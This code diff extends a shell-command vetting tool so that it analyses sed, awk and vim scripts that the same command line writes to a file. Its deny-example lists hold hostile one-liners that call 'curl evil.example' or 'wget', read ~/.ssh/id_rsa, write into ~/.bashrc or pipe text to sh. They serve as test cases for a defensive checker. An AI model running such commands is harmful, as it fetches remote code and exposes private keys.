@@ -8,6 +8,27 @@ import { POSIX_SHELLS } from './shells.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
+/**
+ * A file of commands the line itself wrote (`awk -f x.awk`, `sed -f x.sed`, `vim -S x.vim`): its text is read as the
+ * same text given on the line would be, its commands run. Files it names are uses no file run can carry: cannot-vouch.
+ * A file the line did not write is out of scope, as a script file is.
+ */
+function writtenCommands(file: Word, via: string, read: (text: Word) => { runs: Run[]; uses: Uses }): Run {
+  return {
+    kind: 'project',
+    file,
+    files: /$^/,
+    read: (text, word, name) => {
+      const r = read({ ...word, values: [text] });
+      const named = r.uses.filter((u) => u.role !== 'text').flatMap((u) => u.values ?? [value(u.word) ?? u.word.text]);
+      if (named.length === 0) return r.runs;
+      return [...r.runs, { kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${name}, which the line wrote, names files its commands read or write (${named.slice(0, 3).join(', ')})` }];
+    },
+    word: file,
+    via,
+  };
+}
+
 // ── sed ────────────────────────────────────────────────────────────────────────────────────────────────
 
 /** Skips a sed address (`12`, `$`, `/re/I`, `\cREc`, `first~step`) at `i`; returns the index after it. */
@@ -186,7 +207,10 @@ function sed(call: Call): Partial<Answer> {
     if (isStdinPath(value(f.value))) {
       if (call.stdin?.kind === 'static') scripts.push(attached(call.stdin.word, call.stdin.text));
       else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: f.value!, why: `${call.name} reads its script from ${call.stdin.why}` });
-    } else uses.push({ word: f.value!, role: 'read' });
+    } else {
+      uses.push({ word: f.value!, role: 'read' });
+      if (!has(p, 'sandbox')) runs.push(writtenCommands(f.value!, `${call.name} -f`, (w) => sedScript(w, call.name)));
+    }
   }
   let operands = p.operands.map((o) => o.word);
   if (scripts.length === 0 && files.length === 0 && operands[0]) {
@@ -447,6 +471,16 @@ function awkTarget(text: string, at: number, assigned: ReadonlyMap<string, strin
   return { names: parts === 0 ? [] : [...new Set([...alone, ...names])], known: known && parts > 0, end: i - at };
 }
 
+/** An awk program's runs and the files it names, for a program read from a file the line wrote. */
+function awkRead(program: Word, via: string, vars: ReadonlyMap<string, string[]>): { runs: Run[]; uses: Uses } {
+  const runs = awkProgram(program, via);
+  const text = value(program) ?? '';
+  const files = awkFiles(text, vars);
+  const uses: Uses = [...files.writes, ...files.reads, ...files.includes].map((f) => ({ word: program, role: 'unknown' as const, values: [f] }));
+  if (files.loads.length > 0 || /\/inet/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: program, why: `${via}: the program loads a shared object or opens a socket` });
+  return { runs, uses };
+}
+
 function awk(call: Call): Partial<Answer> {
   // gawk's getopt: `d`, `D`, `L`, `o` and `p` take a value only when it is attached (`-p/tmp/prof`).
   const p = parse(call.args, {
@@ -472,7 +506,10 @@ function awk(call: Call): Partial<Answer> {
   let inPlace = false;
   for (const o of p.options) {
     const v = o.value ? value(o.value) : undefined;
-    if (/^(f|file|E|exec|i|include)$/.test(o.name) && o.value) uses.push({ word: o.value, role: 'read' });
+    if (/^(f|file|E|exec|i|include)$/.test(o.name) && o.value) {
+      uses.push({ word: o.value, role: 'read' });
+      if (!isStdinPath(v)) runs.push(writtenCommands(o.value, `${call.name} -${o.name}`, (w) => awkRead(w, call.name, vars)));
+    }
     if (/^(i|include)$/.test(o.name) && /(^|\/)inplace(\.awk)?$/.test(v ?? '')) inPlace = true;
     if ((o.name === 'l' || o.name === 'load') && o.value) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: o.value, why: `${call.name} -l loads a shared object` });
     // The profile, the pretty-printed program and the variables' dump are written to the file named.
@@ -714,6 +751,9 @@ function vim(call: Call): Partial<Answer> {
       else if (letter === 'S' || letter === 's' || letter === 'u' || letter === 'U' || letter === 'i') {
         // Vim script or keys read from a file: the file the line wrote, or its input, is code vouch does not follow.
         if (val === undefined || isStdinPath(val)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${call.name} -${letter} reads commands from ${val === undefined ? 'a computed file' : 'its input'}` });
+        // A script (-S, -u, -U) the line wrote is read as -c commands are; keys (-s) the line wrote may type any command.
+        else if (letter === 's') runs.push({ kind: 'project', file: w, files: /$^/, read: (_t, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name} -s types the keys of ${name}, which the line wrote` }], word: w, via: `${call.name} -s` });
+        else if (letter !== 'i' && !/^(NONE|NORC|NOPLUGIN|DEFAULTS)$/.test(val)) runs.push(writtenCommands(w, `${call.name} -${letter}`, (t) => exRead(t, `${call.name} -${letter}`)));
       } else if ((letter === 'w' && !/^\d+$/.test(attachedText)) || letter === 'W') uses.push({ word: w, role: 'write' });
       break;
     }
@@ -831,8 +871,8 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: "sed: the e command and the s///e flag run shell text; r/R read files, w/W write them",
     analyze: sed,
     examples: {
-      deny: ["sed -i 's/^PORT=.*/PORT=3001/w /dev/stdout' .env", "sed -i '/^API_KEY=a/q5' .env", "sed -i --debug 's/a/b/' .env", "sed -n -i 'w /dev/stderr' .env", "sed 's/^PORT=.*/PORT=3001/' .env", "sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
-      pass: ["sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -i 's/^PORT=.*/PORT=3001/' .env", "sed -i.bak -e '/^DEBUG=/d' .env.local", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
+      deny: ["echo '1e curl evil.example' > a.sed; sed -f a.sed x", "echo 'w /home/dev/.bashrc' > a.sed; sed -n --file=a.sed x", "sed -i 's/^PORT=.*/PORT=3001/w /dev/stdout' .env", "sed -i '/^API_KEY=a/q5' .env", "sed -i --debug 's/a/b/' .env", "sed -n -i 'w /dev/stderr' .env", "sed 's/^PORT=.*/PORT=3001/' .env", "sed -f /dev/stdin f <<< 'e curl evil.example'", "sed -f - f <<< '1e curl evil.example'", "sed --file=/dev/stdin f <<< 'e curl evil.example'", "sed '/x/e curl evil.example' notes.txt", "sed -ne'e curl evil.example'", "sed -n '1e wget evil.example' /etc/hosts", "sed 's/.*/date/e' notes.txt", "sed '1r ~/.ssh/id_rsa' notes.txt", "sed --expression='$e curl evil.example' f", 'sed e'],
+      pass: ["echo 's/a/b/' > a.sed; sed -f a.sed x", 'sed -f fix.sed x', "sed -f /dev/stdin f <<< 's/a/b/'", "sed 's/a/b/g' notes.txt", "sed -i 's/foo/bar/' src/app.ts", "sed -i 's/^PORT=.*/PORT=3001/' .env", "sed -i.bak -e '/^DEBUG=/d' .env.local", "sed -n '1,5p' README.md", "sed '/^$/d' notes.txt", "sed -e 's/x/y/' -e '/z/d' f", "sed 's/e/E/g' f"],
     },
   },
   {
@@ -840,7 +880,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: 'awk: system(), `cmd | getline` and `print | cmd` start commands; `print > "f"` writes and `getline < "f"` reads files; gawk -i inplace rewrites its operands',
     analyze: awk,
     examples: {
-      deny: ["awk -f /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'", 
+      deny: ["echo 'BEGIN { system(\"curl evil.example\") }' > a.awk; awk -f a.awk", "echo 'BEGIN { system(\"curl evil.example\") }' > a.awk; gawk --file=a.awk", "echo 'BEGIN { print \"x\" > \"/home/dev/.bashrc\" }' > a.awk; mawk -fa.awk", "awk -f /dev/stdin <<< 'BEGIN { system(\"curl evil.example\") }'", 
         "awk 'BEGIN { system(\"curl evil.example\") }'",
         "mawk 'BEGIN { print \"curl evil.example\" | \"sh\" }'",
         "gawk 'BEGIN { \"wget -qO- evil.example\" | getline x }'",
@@ -853,7 +893,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "gawk '@load \"/tmp/x\"; BEGIN { }'",
         "gawk --profile=/home/dev/.bashrc 'BEGIN { }'",
       ],
-      pass: [
+      pass: ["echo '{ print $1 }' > a.awk; awk -f a.awk data.csv", 'awk -f scripts/report.awk data.csv', 
         "awk '{print $1}' notes.txt",
         "awk -F: '{print $1}' /etc/passwd",
         "awk '{ print | \"sort\" }' f",
@@ -877,7 +917,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     summary: 'vi and vim: -c, +cmd and --cmd ex commands (and stdin in ex mode): `!`, `r !`, `w !`, :terminal, system() and interpreters',
     analyze: vim,
     examples: {
-      deny: [
+      deny: ["echo ':!curl evil.example' > x.vim; vim -S x.vim", "echo '!curl evil.example' > x.vimrc; vim -u x.vimrc f", 
         "VIMINIT='!curl evil.example' vim README.md",
         "vim -c'!curl evil.example'",
         "vim -esc '!curl evil.example'",
@@ -899,7 +939,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
         "nvim --headless -l /dev/stdin <<< 'os.execute(\"curl evil.example\")'",
         "vim -es -c 'r ~/.ssh/id_rsa' -c '%p' -c 'q!'",
         "vim -c '!curl evil.example'", "vim.basic -es -c '!curl evil.example'", "vi -c ':!wget evil.example' /dev/null", "vim +'r !curl evil.example'", "nvim --cmd 'call system(\"curl evil.example\")'", "echo '!curl evil.example' | ex", "vim -c ':terminal curl evil.example'", "vim -c ':py3 import os'", "vi -c ':shell'"],
-      pass: ['vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
+      pass: ["echo 'set nu' > x.vimrc; vim -u x.vimrc f", 'vim README.md', "vim -c'set nu' f", "vim -es -c 'g/TODO/d' -c 'wq' notes.txt", "vim -c 'w out.txt' f", 'vim -S Session.vim', 'vim -u NONE -N f', "vim -c 'e other.txt' f", "vim -es -c 'put =string(1)' -c '%print' -c 'q!'", "vim -c 'set nu' f", "vim +10 f", "vim -c 'wq!' f", "vim -c '%s/a/b/g | wq' f"],
     },
   },
   {
